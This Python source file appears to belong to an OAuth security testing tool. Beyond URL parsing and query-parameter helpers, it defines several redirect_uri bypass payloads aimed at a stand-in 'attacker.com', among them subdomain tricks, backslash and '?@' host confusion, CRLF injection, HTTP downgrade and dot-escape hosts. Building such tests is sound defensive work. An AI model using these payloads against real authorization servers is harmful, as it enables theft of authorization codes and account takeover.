import ipaddress
from typing import Optional
from urllib.parse import SplitResult, parse_qsl, quote_plus, unquote_plus, urlsplit, urlunsplit

ATTACKER_DOMAIN = "attacker.com"
DIFFERENT_DOMAIN = "https://example.com"
DOT_ESCAPE_CHAR = "X"


class MalformedURLError(ValueError):
    """Raised when a URL cannot be used as an authorization URL."""


def parse_authorization_url(url: str) -> SplitResult:
    """
    Parse and sanity-check an absolute http(s) URL.

    Args:
        url: Candidate URL string

    Returns:
        The split URL

    Raises:
        MalformedURLError: If the URL is not a string, cannot be parsed,
            is not http(s) or has no host
    """
    if not isinstance(url, str) or not url:
        raise MalformedURLError(f"Not a URL: {url!r}")

    try:
        parts = urlsplit(url)
        # Accessing .port validates the port component
        parts.port
    except ValueError as e:
        raise MalformedURLError(f"Unparseable URL {url!r}: {e}") from e

    if parts.scheme.lower() not in ('http', 'https'):
        raise MalformedURLError(f"Unsupported scheme in {url!r}")

    if not parts.hostname:
        raise MalformedURLError(f"No host in {url!r}")

    return parts


def get_query_param(url: str, name: str) -> Optional[str]:
    """Return the first decoded value of a query parameter, or None if absent."""
    for key, value in parse_qsl(urlsplit(url).query, keep_blank_values=True):
        if key == name:
            return value
    return None


def _segment_key(segment: str) -> str:
    return unquote_plus(segment.split('=', 1)[0])


def replace_query_param(url: str, name: str, value: str) -> str:
    """
    Set a query parameter, leaving every other segment byte-for-byte intact.

    The first occurrence is replaced in place and later duplicates are dropped.
    A parameter that is not present is appended.

    Args:
        url: Original URL
        name: Parameter name
        value: New (unencoded) value

    Returns:
        URL with the parameter set
    """
    parts = urlsplit(url)
    encoded = f"{quote_plus(name)}={quote_plus(value, safe='')}"

    segments = []
    replaced = False
    for segment in parts.query.split('&') if parts.query else []:
        if segment and _segment_key(segment) == name:
            if not replaced:
                segments.append(encoded)
                replaced = True
            continue
        segments.append(segment)

    if not replaced:
        segments.append(encoded)

    return urlunsplit(parts._replace(query='&'.join(segments)))


def remove_query_param(url: str, name: str) -> str:
    """Remove every occurrence of a query parameter."""
    parts = urlsplit(url)
    segments = [
        segment for segment in (parts.query.split('&') if parts.query else [])
        if not (segment and _segment_key(segment) == name)
    ]
    return urlunsplit(parts._replace(query='&'.join(segments)))


def _components(uri: str):
    """Return (protocol, host, path); protocol keeps its colon and an empty path becomes /."""
    parts = urlsplit(uri)
    protocol = f"{parts.scheme}:" if parts.scheme else ''
    host = parts.netloc.rpartition('@')[2]
    return protocol, host, parts.path or '/'


# Redirect-URI variants. Each takes the original redirect_uri value and
# returns the value to substitute for it.

def different_domain(uri: str, destination: str = DIFFERENT_DOMAIN) -> str:
    return destination


def subdomain_attack(uri: str, attacker_domain: str = ATTACKER_DOMAIN) -> str:
    hostname = urlsplit(uri).hostname or ''
    return f"https://{hostname}.{attacker_domain}"


def protocol_relative(uri: str, attacker_domain: str = ATTACKER_DOMAIN) -> str:
    _, _, path = _components(uri)
    return f"//{attacker_domain}{path}"


def backslash_at_confusion(uri: str, attacker_domain: str = ATTACKER_DOMAIN) -> str:
    _, host, path = _components(uri)
    return f"https://{attacker_domain}\\@{host}{path}"


def query_at_confusion(uri: str, attacker_domain: str = ATTACKER_DOMAIN) -> str:
    _, host, path = _components(uri)
    return f"https://{attacker_domain}?@{host}{path}"


def http_downgrade(uri: str) -> str:
    """Swap https:// for http://; URIs without it are returned unchanged."""
    return uri.replace('https://', 'http://', 1)


def crlf_injection(uri: str, attacker_domain: str = ATTACKER_DOMAIN) -> str:
    _, host, path = _components(uri)
    return f"https://{attacker_domain}%0d%0a{host}{path}"


def relative_path(uri: str) -> str:
    protocol, host, path = _components(uri)
    return f"{protocol}//{host}{path}/../redirect"


def query_append(uri: str) -> str:
    return f"{uri}?"


def dot_escape_host(host: str, char: str = DOT_ESCAPE_CHAR) -> str:
    """
    Merge the second-to-last label of a host into its left neighbour.

    ``auth.target.com`` becomes ``authXtarget.com`` and
    ``www.oauth.target.com`` becomes ``www.oauthXtarget.com``. A two-label
    host has its only dot replaced. Single-label hosts and IP literals are
    returned unchanged.
    """
    try:
        ipaddress.ip_address(host.strip('[]'))
        return host
    except ValueError:
        pass

    labels = host.split('.')
    if len(labels) < 2:
        return host
    if len(labels) == 2:
        return f"{labels[0]}{char}{labels[1]}"
    return f"{'.'.join(labels[:-2])}{char}{labels[-2]}.{labels[-1]}"


def dot_escape(uri: str, char: str = DOT_ESCAPE_CHAR) -> str:
    """Apply dot_escape_host to the host of a URI, keeping every other component."""
    parts = urlsplit(uri)
    userinfo, at, hostport = parts.netloc.rpartition('@')
    if not hostport or hostport.startswith('['):
        return uri

    host, colon, port = hostport.partition(':')
    netloc = f"{userinfo}{at}{dot_escape_host(host, char)}{colon}{port}"
    return urlunsplit(parts._replace(netloc=netloc))
